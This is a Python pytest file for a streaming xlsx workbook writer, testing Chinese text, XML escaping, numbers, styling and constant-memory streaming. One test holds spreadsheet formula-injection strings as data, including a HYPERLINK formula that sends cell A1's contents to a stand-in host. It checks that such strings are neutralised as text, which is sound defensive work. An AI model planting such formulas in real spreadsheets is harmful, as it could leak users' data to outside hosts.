"""The streaming xlsx writer (kameng.xlsx): the file is a valid workbook that
openpyxl (and so Excel / WPS) opens with the values written: Chinese text,
escaped XML, no control characters, no formulas, numbers as numbers, a bold
frozen header, money formatted, and big sheets streamed in constant memory."""

from __future__ import annotations

import io
import tracemalloc
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from kameng import xlsx
from kameng.xlsx import Column, SheetWriter, xml_text

COLUMNS = [Column("订单号", width=22), Column("名称"), Column("金额", money=True)]


def write(rows, *, columns=COLUMNS, sheet_name="订单") -> bytes:
    buffer = io.BytesIO()
    with SheetWriter(buffer, sheet_name=sheet_name, columns=columns) as sheet:
        for row in rows:
            sheet.append(row)
    return buffer.getvalue()


def read(data: bytes, *, read_only=True):
    return load_workbook(io.BytesIO(data), read_only=read_only)


def values(data: bytes) -> list[tuple]:
    return list(read(data).active.values)


def test_the_file_is_a_workbook_with_the_expected_parts():
    data = write([["KM001", "月卡", Decimal("30.00")]])
    names = set(zipfile.ZipFile(io.BytesIO(data)).namelist())
    assert names == {
        "[Content_Types].xml",
        "_rels/.rels",
        "xl/workbook.xml",
        "xl/_rels/workbook.xml.rels",
        "xl/styles.xml",
        "xl/worksheets/sheet1.xml",
    }
    assert zipfile.ZipFile(io.BytesIO(data)).testzip() is None
    book = read(data)
    assert book.sheetnames == ["订单"]
    assert values(data) == [("订单号", "名称", "金额"), ("KM001", "月卡", 30)]


def test_chinese_text_and_xml_specials_come_back_as_written():
    text = "腾讯视频 <VIP> & \"年卡\" '特惠'"
    data = write([["A&B", text, 1]])
    assert values(data)[1] == ("A&B", text, 1)


def test_control_characters_are_dropped_tabs_and_line_breaks_kept():
    data = write([["a\x00b\x07c\x1fd", "第一行\n第二行\r\n\t末尾 ", None]])
    assert values(data)[1] == ("abcd", "第一行\n第二行\r\n\t末尾 ", None)
    assert xml_text("x\x0by\ufffez") == "xyz"


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)"]
)
def test_text_that_starts_like_a_formula_is_written_as_text(text):
    data = write([[text, "\t=1+1", "\r=1"]])
    assert values(data)[1] == ("'" + text, "'\t=1+1", "'\r=1")
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml


def test_numbers_stay_numbers_and_empty_cells_stay_empty():
    data = write(
        [
            [12, Decimal("-3.50"), Decimal("1234567.89")],
            [0, 2.25, True],
            ["", None, Decimal("0.00")],
        ]
    )
    rows = values(data)[1:]
    assert rows == [(12, -3.5, 1234567.89), (0, 2.25, True), (None, None, 0)]
    assert isinstance(rows[0][0], int) and isinstance(rows[0][2], float)


def test_a_row_must_have_one_value_per_column():
    with pytest.raises(ValueError):
        write([["KM001", "月卡"]])


def test_values_of_other_kinds_are_refused():
    with pytest.raises(TypeError):
        write([[object(), "", ""]])
    with pytest.raises(ValueError):
        write([[Decimal("NaN"), "", ""]])


def test_the_header_is_bold_frozen_and_money_is_formatted():
    data = write([["KM001", "月卡", Decimal("30.00")]])
    sheet = read(data, read_only=False).active
    assert sheet.freeze_panes == "A2"
    assert [cell.font.b for cell in sheet[1]] == [True, True, True]
    assert sheet["A2"].font.b is not True
    assert sheet["C2"].number_format == "#,##0.00"
    assert sheet["B2"].number_format == "General"
    assert sheet.column_dimensions["A"].width == 22


def test_a_sheet_name_excel_refuses_is_refused():
    for name in ("", "x" * 32, "订单/退款"):
        with pytest.raises(ValueError):
            write([], sheet_name=name)


def test_an_error_while_writing_leaves_no_half_open_file(tmp_path):
    path = tmp_path / "broken.xlsx"
    with pytest.raises(TypeError):
        with SheetWriter(path, sheet_name="订单", columns=COLUMNS) as sheet:
            sheet.append(["KM001", "月卡", 1])
            sheet.append([object()])
    assert path.exists()  # closed; the caller removes it


def test_text_comes_out_right_whether_remembered_or_not(monkeypatch):
    monkeypatch.setattr(xlsx, "TEXT_CACHE_SIZE", 3)
    rows = [[f"KM{i % 7}", "=月卡" if i % 2 else "月卡", i] for i in range(30)]
    assert values(write(rows))[1:] == [
        (f"KM{i % 7}", "'=月卡" if i % 2 else "月卡", i) for i in range(30)
    ]


def test_many_rows_stream_through_without_being_held(tmp_path, monkeypatch):
    monkeypatch.setattr(xlsx, "TEXT_CACHE_SIZE", 1000)
    path = tmp_path / "big.xlsx"
    rows = 50_000
    tracemalloc.start()
    try:
        with SheetWriter(path, sheet_name="订单", columns=COLUMNS) as sheet:
            for i in range(rows):
                sheet.append([f"KM{i:010d}", "腾讯视频 VIP 月卡 <&>", Decimal("30.00")])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    # 50,000 rows are ~10 MB of XML; what is held is one block of rows and
    # at most 1,000 remembered texts.
    assert peak < 4_000_000
    sheet = load_workbook(path, read_only=True).active
    count, last = 0, None
    for row_values in sheet.values:
        count, last = count + 1, row_values
    assert count == rows + 1
    assert last == (f"KM{rows - 1:010d}", "腾讯视频 VIP 月卡 <&>", 30)
